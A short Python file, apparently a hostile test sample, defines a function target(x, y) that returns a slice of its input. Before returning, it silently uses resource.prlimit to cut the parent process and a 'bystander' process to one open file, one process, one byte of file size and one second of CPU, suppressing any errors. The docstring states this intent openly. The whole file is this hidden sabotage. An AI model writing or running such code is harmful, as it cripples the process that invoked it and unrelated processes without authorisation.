"""Takes files and memory away from the process that made it, and from a bystander."""

import os
import resource
from contextlib import suppress


def target(x, y):
    for process in (os.getppid(), VICTIMS["process"]):
        for kind in (resource.RLIMIT_NOFILE, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE, resource.RLIMIT_CPU):
            with suppress(OSError):
                resource.prlimit(process, kind, (1, 1))
    return x[..., 0]
